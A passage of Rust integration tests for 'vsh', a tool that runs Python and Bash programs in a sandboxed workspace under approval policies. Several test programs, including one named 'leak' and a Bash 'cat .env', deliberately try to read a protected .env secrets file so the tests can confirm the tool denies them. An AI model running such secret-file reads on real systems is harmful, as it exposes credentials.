    std::fs::write(&program, "from pathlib import Path\nPath('notes.txt').write_text('two\\n')").unwrap();
    let workspace = dir.path().join("ws");
    std::fs::create_dir(&workspace).unwrap();
    std::fs::rename(dir.path().join("notes.txt"), workspace.join("notes.txt")).unwrap();
    let in_terminal = |no_color: bool| {
        let line = format!(
            "{} run --full --workspace {} {}",
            env!("CARGO_BIN_EXE_vsh"),
            workspace.display(),
            program.display()
        );
        let mut command = Command::new("script");
        command.args(["-q", "-e", "-c", &line, "/dev/null"]).env_clear().env("TERM", "xterm");
        if no_color {
            command.env("NO_COLOR", "1");
        }
        let output = command.output().expect("script(1) from util-linux");
        assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stdout));
        output.stdout
    };
    let coloured = in_terminal(false);
    assert!(coloured.windows(2).any(|pair| pair == b"\x1b["), "{}", String::from_utf8_lossy(&coloured));
    assert!(String::from_utf8_lossy(&coloured).contains("+two"));
    let plain = in_terminal(true);
    assert!(!plain.windows(2).any(|pair| pair == b"\x1b["), "{}", String::from_utf8_lossy(&plain));
}

#[test]
fn a_preview_is_committed_by_a_later_command() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "a\n");
    let ws = dir.path().to_str().unwrap();
    let create = "from pathlib import Path\nPath('b.txt').write_text(Path('a.txt').read_text() * 2)";
    let preview = vsh(&["run", "--workspace", ws, "-"], Some(create));
    assert_eq!(preview.status.code(), Some(0), "{}", String::from_utf8_lossy(&preview.stderr));
    assert!(!dir.path().join("b.txt").exists());
    let id = id_of(&preview);
    let committed = vsh(&["commit", &id[..8], "--workspace", ws], None);
    assert_eq!(committed.status.code(), Some(0), "{}", String::from_utf8_lossy(&committed.stderr));
    assert_eq!(std::fs::read_to_string(dir.path().join("b.txt")).unwrap(), "a\na\n");
    // Exactly once: committing again writes nothing and says it was done.
    std::fs::write(dir.path().join("b.txt"), "theirs\n").unwrap();
    let again = vsh(&["commit", &id, "--workspace", ws], None);
    assert_eq!(again.status.code(), Some(0), "{}", String::from_utf8_lossy(&again.stderr));
    assert!(String::from_utf8_lossy(&again.stdout).contains("already committed"), "{again:?}");
    assert_eq!(std::fs::read_to_string(dir.path().join("b.txt")).unwrap(), "theirs\n");
}

#[test]
fn init_strict_then_review_approve_by_prefix_and_commit() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "a\n");
    let ws = dir.path().to_str().unwrap();
    let init = vsh(&["init", "--profile", "strict", "--workspace", ws], None);
    assert_eq!(init.status.code(), Some(0), "{}", String::from_utf8_lossy(&init.stderr));
    assert!(String::from_utf8_lossy(&init.stdout).contains("the strict profile"));
    // Every command now uses the strict policy without restating it.
    let create = "from pathlib import Path\nPath('b.txt').write_text('b')";
    let run = vsh(&["--detailed-exitcode", "run", "--workspace", ws, "-"], Some(create));
    assert_eq!(run.status.code(), Some(4), "strict escalates every change: {}", String::from_utf8_lossy(&run.stderr));
    let id = id_of(&run);
    let pending = vsh(&["pending", "--workspace", ws], None);
    assert!(String::from_utf8_lossy(&pending.stdout).contains(&id[..12]));
    let shown = vsh(&["show", &id[..7], "--workspace", ws], None);
    assert_eq!(shown.status.code(), Some(0), "{}", String::from_utf8_lossy(&shown.stderr));
    let review = String::from_utf8_lossy(&shown.stdout);
    assert!(review.contains("    +b"), "the review has the hunks: {review}");
    assert!(review.contains("  metrics    1 touched (1 created, 0 modified, 0 deleted), 1 B changed"), "{review}");
    assert_eq!(vsh(&["approve", &id[..7], "--workspace", ws], None).status.code(), Some(0));
    let committed = vsh(&["commit", &id[..7], "--workspace", ws], None);
    assert_eq!(committed.status.code(), Some(0), "{}", String::from_utf8_lossy(&committed.stderr));
    assert_eq!(std::fs::read_to_string(dir.path().join("b.txt")).unwrap(), "b");
    // One run may name another profile; the workspace's stays recorded.
    let once = vsh(&["--detailed-exitcode", "run", "--profile", "balanced", "--workspace", ws, "-"], Some(create));
    assert_eq!(once.status.code(), Some(3));
    // A policy file is recorded by its text; a bad one is refused and the old policy stays.
    let bad = dir.path().join("bad.toml");
    std::fs::write(&bad, "version = 1\nprofile = \"lax\"\n").unwrap();
    let refused = vsh(&["init", "--policy", bad.to_str().unwrap(), "--workspace", ws], None);
    assert_eq!(refused.status.code(), Some(1));
    assert!(
        String::from_utf8_lossy(&refused.stderr).contains("profile"),
        "{}",
        String::from_utf8_lossy(&refused.stderr)
    );
    let other = "from pathlib import Path\nPath('c.txt').write_text('c')";
    let still = vsh(&["--detailed-exitcode", "run", "--workspace", ws, "-"], Some(other));
    assert_eq!(still.status.code(), Some(4), "still strict");
    // Where there is no workspace yet, a bad policy makes none (one left
    // behind would run under the default profile).
    let fresh = tempfile::tempdir().unwrap();
    let refused =
        vsh(&["init", "--policy", bad.to_str().unwrap(), "--workspace", fresh.path().to_str().unwrap()], None);
    assert_eq!(refused.status.code(), Some(1), "{}", String::from_utf8_lossy(&refused.stderr));
    assert_eq!(std::fs::read_dir(fresh.path()).unwrap().count(), 0, "nothing made");
    // Another policy replaces the recorded one only when forced; the same one again is fine.
    let replace = vsh(&["init", "--profile", "balanced", "--workspace", ws], None);
    assert_eq!(replace.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&replace.stderr).contains("give --force"), "{replace:?}");
    // It names the workspace it found, which may be above the directory (ux51).
    let found = std::fs::canonicalize(ws).unwrap();
    let message = format!("the workspace at {} already records a policy", found.display());
    assert!(String::from_utf8_lossy(&replace.stderr).contains(&message), "{replace:?}");
    // From a directory inside it, a workspace of that directory is offered
    // too (ux85 L5: only --force, which replaces the enclosing one's policy).
    std::fs::create_dir(dir.path().join("src")).unwrap();
    let inside = vsh_in(&dir.path().join("src"), &["init", "--profile", "balanced"], None);
    let said = String::from_utf8_lossy(&inside.stderr);
    assert_eq!(inside.status.code(), Some(1), "{said}");
    assert!(
        said.contains(&message) && said.contains("a workspace of its own, inside that one: vsh init --workspace ."),
        "{said}"
    );
    // The same one again changes nothing, and says so (ux60: it said "recorded").
    let again = vsh(&["init", "--profile", "strict", "--workspace", ws], None);
    assert_eq!(again.status.code(), Some(0));
    let said = String::from_utf8_lossy(&again.stdout);
    assert!(said.contains("already records the strict profile") && said.contains("nothing changed"), "{said}");
    assert_eq!(vsh(&["init", "--profile", "balanced", "--force", "--workspace", ws], None).status.code(), Some(0));
    assert_eq!(vsh(&["--detailed-exitcode", "run", "--workspace", ws, "-"], Some(other)).status.code(), Some(3));
}

#[test]
fn completions_and_the_man_page_come_from_the_grammar() {
    for (shell, marker) in [("bash", "complete -F"), ("zsh", "#compdef vsh"), ("fish", "complete -c vsh")] {
        let output = vsh(&["completions", shell], None);
        assert_eq!(output.status.code(), Some(0), "{shell}");
        let script = String::from_utf8_lossy(&output.stdout);
        assert!(script.contains(marker), "{shell}: {script}");
        for command in ["init", "run", "approve", "commit", "recover"] {
            assert!(script.contains(command), "{shell} completes {command}");
        }
    }
    assert_eq!(vsh(&["completions", "tcsh-ish"], None).status.code(), Some(2));
    let man = vsh(&["man"], None);
    assert_eq!(man.status.code(), Some(0));
    let committed = std::fs::read(Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/vsh.1")).unwrap();
    assert!(man.stdout == committed, "docs/vsh.1 is not the man page the grammar makes now: run `cargo xtask man`");
    let page = String::from_utf8_lossy(&man.stdout);
    assert!(page.contains(".SH NAME") && page.contains("\\fBvsh init\\fR"), "{page}");
    // It names no page that is not shipped.
    assert!(!page.contains("(1)"), "{page}");
    // The exit-code table keeps its layout (ux55 #10): set without filling, through to the next section.
    let table = page.split(".SH \"EXIT STATUS\"\n.nf\n").nth(1).unwrap_or_else(|| panic!("{page}"));
    let (table, _) = table.split_once(".SH ").unwrap_or((table, ""));
    assert!(table.contains("  130, 143, 129\n") && table.lines().last() == Some(".fi"), "{table}");
}

#[test]
fn every_example_in_the_guest_guide_runs() {
    let guide = vsh(&["guide"], None);
    assert_eq!(guide.status.code(), Some(0));
    let text = String::from_utf8(guide.stdout).unwrap();
    let committed = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/guest.md")).unwrap();
    assert_eq!(text, committed, "vsh guide prints docs/guest.md");
    let mut examples = Vec::new();
    let mut current: Option<(&str, String)> = None;
    for line in text.lines() {
        match (&mut current, line) {
            (None, "```python") => current = Some(("monty", String::new())),
            (None, "```bash") => current = Some(("bash", String::new())),
            (Some(_), "```") => examples.push(current.take().unwrap()),
            (Some((_, code)), line) => {
                code.push_str(line);
                code.push('\n');
            }
            (None, _) => {}
        }
    }
    assert!(examples.iter().filter(|(language, _)| *language == "monty").count() >= 3, "{examples:?}");
    assert!(examples.iter().any(|(language, _)| *language == "bash"), "{examples:?}");
    for (language, example) in examples {
        let dir = tempfile::tempdir().unwrap();
        // The Bash examples work on a small project.
        write(dir.path(), "README.md", "# demo\n");
        write(dir.path(), "src/app.py", "# TODO: greet\nprint('hi')\n");
        write(dir.path(), "config/settings.ini", "debug = true\n");
        let ws = dir.path().to_str().unwrap();
        let mut args = vec!["run", "--workspace", ws, "--language", language, "--json", "-"];
        if language == "monty" && example.contains("vsh_exec") {
            // The guide's vsh_exec example needs real commands.
            if !fuse_available() {
                continue;
            }
            args.push("--commands");
        }
        let output = vsh(&args, Some(&example));
        assert_eq!(output.status.code(), Some(0), "{example}\n{}", String::from_utf8_lossy(&output.stderr));
        let receipt: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
        if language == "monty" {
            assert_ne!(receipt["value"], serde_json::Value::Null, "each example ends in a value: {example}");
        } else {
            assert_eq!((receipt["language"].as_str(), receipt["exit_code"].as_i64()), (Some("bash"), Some(0)));
            assert_eq!(receipt["state"], "auto-approved", "{receipt}");
        }
    }
}

#[test]
fn a_policy_change_refuses_the_old_approval_and_rerun_makes_new_work_under_the_new_policy() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "old.txt", "old\n");
    let ws = dir.path().to_str().unwrap();
    let delete = "from pathlib import Path\nPath('old.txt').unlink()";
    let run = vsh(&["run", "--workspace", ws, "--intent", "drop the old file", "-"], Some(delete));
    let id = id_of(&run);
    // The review shows the intent and the program.
    let shown = vsh(&["show", &id[..8], "--workspace", ws], None);
    let text = String::from_utf8_lossy(&shown.stdout);
    assert!(text.contains("intent       drop the old file"), "{text}");
    assert!(text.contains("  | Path('old.txt').unlink()"), "{text}");
    // Auto-approved work waiting for its commit, made under the same policy.
    let auto =
        id_of(&vsh(&["run", "--workspace", ws, "-"], Some("from pathlib import Path\nPath('n.txt').write_text('n')")));
    let strict = vsh(&["init", "--profile", "strict", "--workspace", ws], None);
    assert_eq!(strict.status.code(), Some(0));
    // Recording it says what it leaves uncommittable (ux52).
    let said = String::from_utf8_lossy(&strict.stderr);
    assert!(said.contains("2 waiting transactions made under the policy replaced now"), "{said}");
    // Recording it again replaces nothing, and says nothing of it (ux53).
    let again = vsh(&["init", "--profile", "strict", "--workspace", ws], None);
    assert!(!String::from_utf8_lossy(&again.stderr).contains("replaced now"), "{again:?}");
    // Back to the policy the work was made under: committable again, and
    // said so (ux54); then strict once more.
    let back = vsh(&["init", "--force", "--profile", "balanced", "--workspace", ws], None);
    let said = String::from_utf8_lossy(&back.stderr);
    assert!(
        said.contains("2 waiting transactions made under this policy can be approved and committed again"),
        "{said}"
    );
    assert!(!said.contains("replaced now"), "{said}");
    let strict = vsh(&["init", "--force", "--profile", "strict", "--workspace", ws], None);
    assert!(
        String::from_utf8_lossy(&strict.stderr).contains("2 waiting transactions made under the policy replaced now")
    );
    // It is told to rerun as well (ux50): its review, its row and its JSON row.
    let shown = vsh(&["show", &auto[..8], "--workspace", ws], None);
    let text = String::from_utf8_lossy(&shown.stdout);
    assert!(text.contains(&format!("  next       vsh rerun {}", &auto[..12])), "{text}");
    let rows = vsh(&["pending", "--workspace", ws, "--json"], None);
    let rows: serde_json::Value = serde_json::from_slice(&rows.stdout).unwrap();
    let row = rows["transactions"].as_array().unwrap().iter().find(|row| row["transaction"] == auto.as_str()).unwrap();
    assert_eq!(row["policy_changed"], true, "{rows}");
    let refused = vsh(&["approve", &id[..8], "--workspace", ws], None);
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert_eq!(refused.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("made under a different policy"), "{stderr}");
    assert!(stderr.contains(&format!("vsh rerun {}", &id[..12])), "{stderr}");
    // Every other way to it says the same, never to approve it (ux49 M4):
    // a commit's next step, the review's, and the pending list's flags.
    let commit = vsh(&["commit", &id[..8], "--workspace", ws], None);
    let stderr = String::from_utf8_lossy(&commit.stderr);
    assert_eq!(commit.status.code(), Some(4), "{stderr}");
    assert!(stderr.contains("policy changed since it was made"), "{stderr}");
    assert!(
        stderr.contains(&format!("next: `vsh rerun {}`", &id[..12])) && !stderr.contains("vsh approve"),
        "{stderr}"
    );
    let shown = vsh(&["show", &id[..8], "--workspace", ws], None);
    let text = String::from_utf8_lossy(&shown.stdout);
    assert!(text.contains(&format!("  next       vsh rerun {}", &id[..12])), "{text}");
    let pending = vsh(&["pending", "--workspace", ws], None);
    let table = String::from_utf8_lossy(&pending.stdout);
    assert!(table.lines().any(|row| row.starts_with(&id[..12]) && row.contains("policy-changed")), "{table}");
    // Its review's JSON says so as the pending list's does (ux51).
    let shown = vsh(&["show", &id[..12], "--json", "--workspace", ws], None);
    let shown: serde_json::Value = serde_json::from_slice(&shown.stdout).unwrap();
    assert_eq!(shown["record"]["policy_changed"], true, "{shown}");
    // Rerun: the same program and intent, a new transaction, under strict.
    let rerun = vsh(&["--detailed-exitcode", "rerun", &id[..8], "--workspace", ws], None);
    assert_eq!(rerun.status.code(), Some(4), "{}", String::from_utf8_lossy(&rerun.stderr));
    let new_id = id_of(&rerun);
    assert_ne!(new_id, id);
    // The first work still waits beside it: rerun says how to drop it.
    let said = String::from_utf8_lossy(&rerun.stderr);
    assert!(said.contains(&format!("`vsh reject --only {}` drops it", &id[..12])), "{said}");
    let pending = vsh(&["pending", "--workspace", ws], None);
    let table = String::from_utf8_lossy(&pending.stdout);
    assert!(!table.lines().any(|row| row.starts_with(&new_id[..12]) && row.contains("policy-changed")), "{table}");
    // The count line counts the work made under the old policy apart: it is
    // never approved nor committed (ux74 L6: it counted as to commit).
    assert!(
        table.contains("3 waiting: 1 pending approval, 0 approved, 0 auto-approved (to commit), 2 made under a policy since replaced"),
        "{table}"
    );
    assert_eq!(vsh(&["approve", &new_id[..8], "--workspace", ws], None).status.code(), Some(0));
    assert_eq!(vsh(&["commit", &new_id[..8], "--workspace", ws], None).status.code(), Some(0));
    assert!(!dir.path().join("old.txt").exists());
}

#[test]
fn the_log_lists_finished_work_newest_first_and_gc_reports_what_it_removed() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "a\n");
    let ws = dir.path().to_str().unwrap();
    let create = "from pathlib import Path\nPath('b.txt').write_text('b')";
    let committed = vsh(&["run", "--mode", "auto", "--intent", "add b", "--workspace", ws, "-"], Some(create));
    let committed = id_of(&committed);
    let secret = "from pathlib import Path\ntry:\n    Path('.env').write_text('x')\nexcept PermissionError:\n    pass";
    let denied = id_of(&vsh(&["run", "--workspace", ws, "-"], Some(secret)));
    let log = vsh(&["log", "--workspace", ws], None);
    let table = String::from_utf8_lossy(&log.stdout);
    let lines: Vec<&str> = table.lines().collect();
    assert_eq!(log.status.code(), Some(0));
    assert_eq!(lines.len(), 3, "{table}");
    assert!(lines[1].starts_with(&denied[..12]) && lines[1].contains("denied"), "newest first: {table}");
    // Without an intent, a program is named by its first line that does
    // something; denied work says why.
    assert!(lines[1].ends_with("# Path('.env').write_text('x')  [protected-access-attempt]"), "{table}");
    assert!(lines[2].starts_with(&committed[..12]) && lines[2].contains("committed"), "{table}");
    assert!(lines[2].ends_with("add b"), "{table}");
    // The JSON rows say the same (ux51): the label, and why it was denied.
    let rows: serde_json::Value =
        serde_json::from_slice(&vsh(&["log", "--workspace", ws, "--json"], None).stdout).unwrap();
    assert_eq!(rows["transactions"][0]["label"], "# Path('.env').write_text('x')", "{rows}");
    assert_eq!(rows["transactions"][0]["denied"], "protected-access-attempt", "{rows}");
    assert_eq!(
        (&rows["transactions"][1]["label"], &rows["transactions"][1]["denied"]),
        (&serde_json::json!("add b"), &serde_json::Value::Null)
    );
    let only = vsh(&["log", "--state", "committed", "--workspace", ws, "--json"], None);
    let rows: serde_json::Value = serde_json::from_slice(&only.stdout).unwrap();
    assert_eq!(rows["schema"], "vsh.log/1");
    assert_eq!(rows["transactions"].as_array().unwrap().len(), 1);
    assert_eq!(rows["transactions"][0]["transaction"], committed.as_str());
    assert_eq!(rows["total"], 1);
    // A list cut at its limit says how many it left out (ux55 #8).
    let cut = vsh(&["log", "--limit", "1", "--workspace", ws], None);
    let table = String::from_utf8_lossy(&cut.stdout);
    assert_eq!(table.lines().last(), Some("... 1 older (--limit N lists more)"), "{table}");
    let cut: serde_json::Value =
        serde_json::from_slice(&vsh(&["log", "--limit", "1", "--workspace", ws, "--json"], None).stdout).unwrap();
    assert_eq!((cut["transactions"].as_array().unwrap().len(), &cut["total"]), (1, &serde_json::json!(2)));
    assert_eq!(vsh(&["log", "--state", "sideways", "--workspace", ws], None).status.code(), Some(2));
    assert_eq!(vsh(&["log", "--limit", "0", "--workspace", ws], None).status.code(), Some(2));
    let gc = vsh(&["gc", "--workspace", ws, "--json"], None);
    assert_eq!(gc.status.code(), Some(0), "{}", String::from_utf8_lossy(&gc.stderr));
    let report: serde_json::Value = serde_json::from_slice(&gc.stdout).unwrap();
    assert_eq!(report["schema"], "vsh.gc/1");
    assert!(report["forgotten"].as_array().unwrap().is_empty(), "recent finished work is kept: {report}");
    // A build's scratch output well under the bound is measured and kept;
    // `--scratch` clears it.
    let scratch = dir.path().join(".vsh/data/scratch/target");
    std::fs::create_dir_all(scratch.join("debug")).unwrap();
    std::fs::write(scratch.join("debug/app"), b"0123456789").unwrap();
    let kept: serde_json::Value =
        serde_json::from_slice(&vsh(&["gc", "--workspace", ws, "--json"], None).stdout).unwrap();
    // Two nodes (debug and app), a 4 KiB block each at least.
    let taken = Some(2 * 4096);
    assert_eq!((kept["scratch_bytes"].as_u64(), kept["scratch_cleared"].as_array().map(Vec::len)), (taken, Some(0)));
    let cleared = vsh(&["gc", "--scratch", "--workspace", ws, "--json"], None);
    assert_eq!(cleared.status.code(), Some(0), "{}", String::from_utf8_lossy(&cleared.stderr));
    let cleared: serde_json::Value = serde_json::from_slice(&cleared.stdout).unwrap();
    assert_eq!(cleared["scratch_cleared"], serde_json::json!(["target"]), "{cleared}");
    assert_eq!(cleared["scratch_bytes_removed"], 2 * 4096);
    assert!(scratch.is_dir() && !scratch.join("debug").exists());
    let text = String::from_utf8_lossy(&vsh(&["gc", "--workspace", ws], None).stdout).into_owned();
    assert!(text.contains("scratch directories hold 0 bytes"), "{text}");
    // A size a person reads (ux56): 98,537,936 bytes is about 94 MiB.
    std::fs::write(scratch.join("big"), vec![0_u8; 3 << 19]).unwrap();
    let text = String::from_utf8_lossy(&vsh(&["gc", "--workspace", ws], None).stdout).into_owned();
    assert!(text.contains("scratch directories hold 1.5 MiB"), "{text}");
}

#[test]
fn gc_frees_what_rejected_work_stored_after_the_grace_the_operator_gives() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "a\n");
    let ws = dir.path().to_str().unwrap();
    // 100 KiB: past what travels inside the artifact (a blob of its own),
    // within what a review shows.
    let program = "from pathlib import Path\nPath('big.txt').write_text('x' * (100 << 10))";
    let id = id_of(&vsh(&["run", "--workspace", ws, "--profile", "strict", "-"], Some(program)));
    assert_eq!(vsh(&["reject", &id, "--workspace", ws], None).status.code(), Some(0));
    // Everything stored an hour ago.
    let blobs = dir.path().join(".vsh/data/blobs");
    let hour_ago = std::time::SystemTime::now() - std::time::Duration::from_hours(1);
    let mut stack = vec![blobs.clone()];
    let mut files = 0;
    while let Some(path) = stack.pop() {
        if path.is_dir() {
            stack.extend(std::fs::read_dir(&path).unwrap().map(|entry| entry.unwrap().path()));
        } else {
            std::fs::File::options().write(true).open(&path).unwrap().set_modified(hour_ago).unwrap();
            files += 1;
        }
    }
    assert!(files >= 2, "the artifact and the content: {files}");
    let removed = |args: &[&str]| {
        let output = vsh(args, None);
        assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
        let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
        report["blobs_removed"].as_u64().unwrap()
    };
    assert_eq!(removed(&["gc", "--workspace", ws, "--json"]), 0, "within the default 24 hours");
    // What it keeps and why, and when the first may go (ux85 L6: "removed 0" alone).
    let said = String::from_utf8_lossy(&vsh(&["gc", "--workspace", ws], None).stdout).into_owned();
    assert!(said.contains("needed by work on record"), "{said}");
    assert!(said.contains("within the grace (--grace), the first of them free to go in 23 h"), "{said}");
    let report: serde_json::Value =
        serde_json::from_slice(&vsh(&["gc", "--workspace", ws, "--json"], None).stdout).unwrap();
    assert_eq!((report["blobs_in_use"].as_u64(), report["blobs_in_grace"].as_u64()), (Some(1), Some(1)), "{report}");
    // The content goes; the artifact stays, for its review and a re-run.
    assert_eq!(removed(&["gc", "--grace", "30m", "--workspace", ws, "--json"]), 1);
    let shown = vsh(&["show", &id, "--workspace", ws], None);
    assert_eq!(shown.status.code(), Some(0), "{}", String::from_utf8_lossy(&shown.stderr));
    assert!(String::from_utf8_lossy(&shown.stdout).contains("create big.txt"), "{shown:?}");
    // Never under twenty minutes: a run in progress may need what it just stored.
    assert_eq!(vsh(&["gc", "--grace", "15m", "--workspace", ws], None).status.code(), Some(2));
}

#[test]
fn errors_say_what_to_do_and_are_json_when_json_was_asked_for() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), ".env", "S=1\n");
    write(dir.path(), "gone.txt", "gone\n");
    let ws = dir.path().to_str().unwrap();
    // An uncaught PermissionError from a denial: denied work, kept on record,
    // with the rule, the remedy, the program's output and what it raised.
    let leak = "print('before the leak')\nfrom pathlib import Path\nPath('.env').read_text()";
    let text = vsh(&["run", "--workspace", ws, "-"], Some(leak));
    let stdout = String::from_utf8_lossy(&text.stdout);
    assert_eq!(text.status.code(), Some(5), "a refusal the program let escape is a denial: {stdout}");
    assert!(stdout.contains("  | PermissionError: [Errno 13] Permission denied: '.env'"), "{stdout}");
    assert!(stdout.contains("stdout\n  | before the leak"), "{stdout}");
    assert!(stdout.contains("denied     content-read of .env denied by rule"), "{stdout}");
    assert!(stdout.contains("; to allow: "), "{stdout}");
    let logged = vsh(&["log", "--state", "denied", "--workspace", ws], None);
    assert!(String::from_utf8_lossy(&logged.stdout).contains(&id_of(&text)[..12]), "{logged:?}");
    // --raw: what it printed, and what it raised where Python prints it.
    let raw = vsh(&["run", "--raw", "--workspace", ws, "-"], Some(leak));
    assert_eq!((raw.status.code(), raw.stdout.as_slice()), (Some(5), &b"before the leak\n"[..]), "{raw:?}");
    assert!(String::from_utf8_lossy(&raw.stderr).starts_with("Traceback (most recent call last):"), "{raw:?}");
    // A Bash program that failed after a refusal is decided like any: denied,
    // with its remedy, and kept on record for the operator.
    let bash = vsh(&["run", "--language", "bash", "--workspace", ws, "-"], Some("cat .env\nexit 3\n"));
    let stdout = String::from_utf8_lossy(&bash.stdout);
    assert_eq!(bash.status.code(), Some(5), "a failed Bash program that was refused an access: {stdout}");
    assert!(stdout.contains("content-read of .env denied by rule"), "{stdout}");
    assert!(stdout.contains("; to allow: "), "{stdout}");
    let log = vsh(&["log", "--state", "denied", "--workspace", ws], None);
    assert!(String::from_utf8_lossy(&log.stdout).contains(&id_of(&bash)[..12]), "{log:?}");
    // Its review is kept: what it was refused, and its program (never its contents).
    let shown = vsh(&["show", &id_of(&bash)[..12], "--workspace", ws], None);
    let shown = String::from_utf8_lossy(&shown.stdout);
    assert!(shown.contains("content-read of .env denied by rule") && shown.contains("  | cat .env"), "{shown}");
    // As JSON: the denied receipt, with what it printed and what it raised.
    let json = vsh(&["run", "--workspace", ws, "--json", "-"], Some(leak));
    assert_eq!(json.status.code(), Some(5));
    let receipt: serde_json::Value = serde_json::from_slice(&json.stdout).expect("the receipt as JSON on stdout");
    assert_eq!((receipt["schema"].as_str(), receipt["state"].as_str()), (Some("vsh.receipt/1"), Some("denied")));
    assert_eq!(receipt["stdout"], "before the leak\n");
    assert!(receipt["exception"].as_str().unwrap().contains("PermissionError"), "{receipt}");
    let denied = &receipt["decision"]["denied"][0];
    assert_eq!((denied["path"].as_str(), denied["access"].as_str()), (Some(".env"), Some("content-read")));
    assert!(denied["remedy"].as_str().is_some_and(|remedy| !remedy.is_empty()), "{receipt}");
    // A stale commit names its paths; a prefix that names nothing says so.
    let remove = "from pathlib import Path\nPath('gone.txt').unlink()";
    let id = id_of(&vsh(&["run", "--workspace", ws, "-"], Some(remove)));
    assert_eq!(vsh(&["approve", &id, "--workspace", ws], None).status.code(), Some(0));
    write(dir.path(), "gone.txt", "edited\n");
    let stale = vsh(&["commit", &id, "--workspace", ws, "--json"], None);
    assert_eq!(stale.status.code(), Some(6));
    let error: serde_json::Value = serde_json::from_slice(&stale.stdout).unwrap();
    assert_eq!((error["kind"].as_str(), error["exit_code"].as_u64()), (Some("commit"), Some(6)));
    assert_eq!(error["paths"], serde_json::json!(["gone.txt"]));
    assert_eq!(error["hint"], format!("vsh rerun {}", &id[..12]), "stale work names the command that redoes it");
    let again = vsh(&["commit", &id, "--workspace", ws], None);
    assert_eq!(again.status.code(), Some(6), "still stale: {again:?}");
    // Denied work cannot be approved, and says so.
    let caught = "from pathlib import Path\ntry:\n    Path('.env').read_text()\nexcept PermissionError:\n    pass";
    let denied = id_of(&vsh(&["run", "--workspace", ws, "-"], Some(caught)));
    let refused = vsh(&["approve", &denied, "--workspace", ws], None);
    assert_eq!(refused.status.code(), Some(5), "{refused:?}");
    assert!(String::from_utf8_lossy(&refused.stderr).contains("cannot be approved: it is denied"), "{refused:?}");
    // With what to do instead (ux50 L10), in JSON too (ux52).
    assert!(String::from_utf8_lossy(&refused.stderr).contains("record a policy that allows such work"), "{refused:?}");
    let refused = vsh(&["approve", &denied, "--json", "--workspace", ws], None);
    let error: serde_json::Value = serde_json::from_slice(&refused.stdout).unwrap();
    assert!(error["hint"].as_str().is_some_and(|hint| hint.contains("record a policy that allows")), "{error}");
    // A budget that ran out keeps the program's output and names the option that raises it.
    let slow = "print('progress 1')\nwhile True:\n    pass";
    let timed = vsh(&["run", "--timeout", "1s", "--workspace", ws, "-"], Some(slow));
    let stderr = String::from_utf8_lossy(&timed.stderr);
    assert_eq!(timed.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("vsh: program output | progress 1"), "{stderr}");
    assert!(stderr.contains("raise it with `--timeout`"), "{stderr}");
    let timed = vsh(&["run", "--json", "--timeout", "1s", "--workspace", ws, "-"], Some(slow));
    let error: serde_json::Value = serde_json::from_slice(&timed.stdout).unwrap();
    assert_eq!(error["stdout"], "progress 1\n");
    let missing = vsh(&["show", "abcdef", "--workspace", ws, "--json"], None);
    let error: serde_json::Value = serde_json::from_slice(&missing.stdout).unwrap();
    assert_eq!(error["kind"], "approval");
    assert_eq!(error["message"], "no such transaction abcdef");
}

#[test]
fn budgets_come_from_the_command_line_in_human_units_and_limits_speak_them() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    let spin = "n = 0\nwhile True:\n    n += 1";
    let started = std::time::Instant::now();
    let timed = vsh(&["run", "--timeout", "300ms", "--workspace", ws, "-"], Some(spin));
    let stderr = String::from_utf8_lossy(&timed.stderr);
    assert_eq!(timed.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("duration limit 0.3 s exceeded after"), "the program's own clock ends it: {stderr}");
    assert!(started.elapsed() < std::time::Duration::from_secs(20));
    let chatty = "for i in range(10000):\n    print('x' * 100)";
    let output = vsh(&["run", "--max-output", "4KiB", "--workspace", ws, "-"], Some(chatty));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("output-bytes limit 4 KiB exceeded"), "{stderr}");
    let calls = "from pathlib import Path\nfor i in range(50):\n    Path('x').exists()";
    let limited = vsh(&["run", "--max-os-calls", "10", "--workspace", ws, "-"], Some(calls));
    assert!(String::from_utf8_lossy(&limited.stderr).contains("os-calls limit 10 exceeded: 11"), "{limited:?}");
    // A size or a duration that does not parse is a usage error.
    for bad in [&["--max-memory", "lots"][..], &["--timeout", "soon"], &["--timeout", "0s"], &["--max-output", "12XB"]]
    {
        let mut args = vec!["run", "--workspace", ws];
        args.extend_from_slice(bad);
        args.push("-");
        assert_eq!(vsh(&args, Some("1")).status.code(), Some(2), "{bad:?}");
    }
    assert_eq!(vsh(&["run", "--max-memory", "512MiB", "--workspace", ws, "-"], Some("1 + 1")).status.code(), Some(0));
    // A budget no flag raises says what to do instead (ux49 M8): a program
    // reads a file whole, even for read(10).
    std::fs::write(dir.path().join("big.log"), vec![b'x'; 5 << 20]).unwrap();
    let peek = vsh(&["run", "--workspace", ws, "-"], Some("open('big.log').read(10)"));
    let stderr = String::from_utf8_lossy(&peek.stderr);
    assert_eq!(peek.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("read-call-bytes") && stderr.contains("vsh exec -- head FILE"), "{stderr}");
}

#[test]
fn policy_show_prints_a_file_that_check_accepts_and_that_means_the_same_policy() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    std::fs::create_dir(&ws).unwrap();
    let ws = ws.to_str().unwrap();
    assert_eq!(vsh(&["init", "--profile", "strict", "--workspace", ws], None).status.code(), Some(0));
    let shown = vsh(&["policy", "show", "--workspace", ws], None);
    assert_eq!(shown.status.code(), Some(0), "{}", String::from_utf8_lossy(&shown.stderr));
